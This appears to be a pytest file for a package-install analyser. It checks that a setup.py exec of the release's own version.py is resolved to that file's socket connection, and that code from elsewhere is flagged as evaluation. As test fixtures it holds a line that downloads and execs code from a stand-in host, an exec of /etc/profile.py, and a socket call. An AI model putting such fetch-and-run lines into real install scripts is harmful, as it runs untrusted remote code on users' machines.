"""Code read from one of the release's own files is that file; other code stays unknown."""

from pathlib import Path

import pytest
from tests.support.inspected import told, uses_of

VERSION = "import socket\nsocket.create_connection(('a.example', 1))\n"
CONNECTS = ("net.connect", "install", "a.example:1")
EVALUATES = ("code.eval", "install", None)


def install_uses(folder: Path, setup: str) -> set[tuple[str, str, str | None]]:
    members = {
        "PKG-INFO": "Name: p\nVersion: 1\n",
        "p/__init__.py": "",
        "p/version.py": VERSION,
        "setup.py": setup,
    }
    return told(uses_of(folder, "p-1.tar.gz", members))


@pytest.mark.parametrize(
    "setup",
    [
        'about = {}\nexec(open("p/version.py").read(), about)\n',
        "import os\nhere = os.path.dirname(__file__)\n"
        'with open(os.path.join(here, "p", "version.py")) as f:\n    exec(f.read())\n',
        'exec(compile(open("p/version.py").read(), "x", "exec"))\n',
        "from pathlib import Path\n"
        'exec((Path(__file__).parent / "p" / "version.py").read_text())\n',
        "import io\ndef read(*a):\n"
        '    with io.open("p/version.py") as f:\n        return f.read()\nexec(read())\n',
        'import runpy\nrunpy.run_path("p/version.py")\n',
    ],
)
def test_its_uses_are_told_and_no_unknown_code(tmp_path: Path, setup: str) -> None:
    uses = install_uses(tmp_path, setup)
    assert CONNECTS in uses
    assert not {use for use in uses if use[0].startswith("code.")}


@pytest.mark.parametrize(
    "setup",
    [
        'import urllib.request as r\nexec(r.urlopen("http://x.example").read())\n',
        'exec(open("/etc/profile.py").read())\n',
        "import sys\nexec(open(sys.argv[1]).read())\n",
    ],
)
def test_code_from_elsewhere_is_told(tmp_path: Path, setup: str) -> None:
    uses = install_uses(tmp_path, setup)
    assert EVALUATES in uses
    assert CONNECTS not in uses
